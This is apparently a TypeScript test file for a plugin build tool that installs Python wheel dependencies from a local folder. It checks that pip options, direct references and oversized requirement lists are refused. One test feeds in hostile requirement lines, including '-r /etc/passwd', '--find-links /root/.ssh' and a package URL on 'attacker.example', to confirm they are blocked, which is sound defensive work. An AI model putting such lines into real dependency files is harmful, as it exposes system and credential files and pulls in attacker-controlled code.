/**
 * Python components with dependencies (src/build/python-deps.ts): requirements.txt or pyproject.toml's
 * [project].dependencies installed as wheels into the component's path at build time, from the index
 * Airlock's environment names (here a local folder: PIP_FIND_LINKS + PIP_NO_INDEX, so no test needs the
 * internet); the dependency file is in the content hash; a package with no wheel a component can load,
 * and pip options in the file, are build errors naming them.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import test from 'ava';
import { buildPlugin } from '../../src/build/index.ts';
import { AirlockError } from '../../src/errors.ts';
import { callJson } from '../helpers/cli-child.ts';
import { tempDir } from '../helpers/plugin.ts';

const root = tempDir('airlock-py-deps-');
const wheels = join(root, 'wheels');
mkdirSync(wheels);
/** A wheel made by hand (a zip with METADATA, WHEEL and RECORD): `tag` decides where pip may install it. */
function wheel(name: string, version: string, body: string, tag = 'py3-none-any'): void {
  const script = `
import base64, hashlib, sys, zipfile
name, version, body, tag, out = sys.argv[1:6]
info = f"{name}-{version}.dist-info"
files = {f"{name}.py": body, f"{info}/METADATA": f"Metadata-Version: 2.1\\nName: {name}\\nVersion: {version}\\n",
         f"{info}/WHEEL": f"Wheel-Version: 1.0\\nGenerator: airlock-test\\nRoot-Is-Purelib: true\\nTag: {tag}\\n"}
lines = []
with zipfile.ZipFile(f"{out}/{name}-{version}-{tag}.whl", "w") as z:
    for path, text in files.items():
        data = text.encode()
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        lines.append(f"{path},sha256={digest},{len(data)}")
        z.writestr(path, data)
    lines.append(f"{info}/RECORD,,")
    z.writestr(f"{info}/RECORD", "\\n".join(lines) + "\\n")
`;
  execFileSync('python3', ['-c', script, name, version, body, tag, wheels]);
}
wheel('tinygreet', '1.0', 'def greet(n):\n    return "Hello, " + n\n');
wheel('tinygreet', '2.0', 'def greet(n):\n    return "Howdy, " + n\n');
// Only for Linux x86-64 CPython (a C extension's tags), and only an sdist: nothing a component can load.
wheel('fastnative', '1.0', 'def f(): pass\n', 'cp314-cp314-manylinux_2_17_x86_64');
writeFileSync(join(wheels, 'sdistonly-1.0.tar.gz'), 'not a real sdist: pip must never open it\n');

/** The host's pip settings: the local folder only. */
const env = { ...process.env, PIP_FIND_LINKS: wheels, PIP_NO_INDEX: '1', PIP_INDEX_URL: '', PIP_EXTRA_INDEX_URL: '' };

function plugin(files: Record<string, string>): string {
  const dir = join(tempDir('airlock-py-deps-plugin-'), 'deps-py');
  mkdirSync(dir);
  writeFileSync(
    join(dir, 'plugin.yaml'),
    'apiVersion: airlock/v1\nname: deps-py\nversion: 0.1.0\nruntime: wasm\nentry: main.py\ntools:\n  - name: greet\n    description: Greets.\n    input: { type: object, properties: { name: { type: string } }, required: [name] }\n',
  );
  writeFileSync(
    join(dir, 'main.py'),
    'import json\nfrom tinygreet import greet\nfrom wit_world import exports\n\n\nclass Tools(exports.Tools):\n    def call(self, name: str, input: str) -> str:\n        return json.dumps({"greeting": greet(json.loads(input)["name"])})\n',
  );
  for (const [f, text] of Object.entries(files)) writeFileSync(join(dir, f), text);
  return dir;
}

test('a Python component with a requirements.txt builds and answers; a new pin changes the answer without --force; pyproject.toml works too', async (t) => {
  // Three componentize-py builds on a busy machine.
  t.timeout(15 * 60_000);
  const dir = plugin({ 'requirements.txt': 'tinygreet==1.0\n' });
  const first = await callJson(dir, 'greet', { name: 'Ada' }, env);
  t.true(first.ok, first.raw.stdout + first.raw.stderr);
  t.deepEqual(first.value, { greeting: 'Hello, Ada' });

  await writeFile(join(dir, 'requirements.txt'), 'tinygreet==2.0\n');
  const second = await callJson(dir, 'greet', { name: 'Ada' }, env);
  t.true(second.ok, second.raw.stdout + second.raw.stderr);
  t.deepEqual(second.value, { greeting: 'Howdy, Ada' });

  await rm(join(dir, 'requirements.txt'));
  await writeFile(join(dir, 'pyproject.toml'), '[project]\nname = "deps-py"\nversion = "0.1.0"\ndependencies = ["tinygreet==1.0"]\n');
  const third = await callJson(dir, 'greet', { name: 'Ada' }, env);
  t.true(third.ok, third.raw.stdout + third.raw.stderr);
  t.deepEqual(third.value, { greeting: 'Hello, Ada' });
});

for (const name of ['fastnative', 'sdistonly']) {
  test(`a package with no wheel a component can load (${name}) is a build error naming it and suggesting Docker; no sdist is built`, async (t) => {
    const dir = plugin({ 'requirements.txt': `${name}==1.0\n` });
    const err = await t.throwsAsync(buildPlugin(dir, { env, cacheRoot: join(root, 'cache') }), { instanceOf: AirlockError });
    t.is(err?.code, 'build-failed');
    t.true(err?.message.startsWith(`${join(dir, 'requirements.txt')}: no wheel of ${name}==1.0 that runs in a WebAssembly component`), err?.message);
    t.regex(err?.message ?? '', /run the plugin on Docker \(`runtime: python`/);
  });
}

test('pip options and direct references in requirements.txt are refused with the line, before pip runs', async (t) => {
  for (const [line, pattern] of [
    ['--find-links /root/.ssh', /requirements\.txt line 1: pip options are not accepted/],
    ['-r /etc/passwd', /requirements\.txt line 1: pip options are not accepted/],
    ['tinygreet @ https://attacker.example/tinygreet-1.0.tar.gz', /requirements\.txt line 1: .* is a direct reference/],
  ] as const) {
    const dir = plugin({ 'requirements.txt': `${line}\n` });
    const err = await t.throwsAsync(buildPlugin(dir, { env, cacheRoot: join(root, 'cache') }), { instanceOf: AirlockError });
    t.is(err?.code, 'build-failed');
    t.regex(err?.message ?? '', pattern);
  }
});

// ---- hunt (hostile data) ----
test('a requirements list past 1 MiB is refused naming the dependency file, before pip runs and before the host reads it', async (t) => {
  t.timeout(5 * 60_000);
  // 120,000 distinct names with a long pin: about 4 MiB once reduced (the host would otherwise read all of it).
  const lines = Array.from({ length: 120_000 }, (_, i) => `pkg${i}==1.0.0.post0.dev0+local.build.${i}\n`).join('');
  const dir = plugin({ 'requirements.txt': lines });
  const err = await t.throwsAsync(buildPlugin(dir, { env, cacheRoot: join(root, 'cache') }), { instanceOf: AirlockError });
  t.is(err?.code, 'build-failed');
  t.true(err?.message.startsWith(`${join(dir, 'requirements.txt')}: it lists more than 1 MiB of requirements`), err?.message);
});
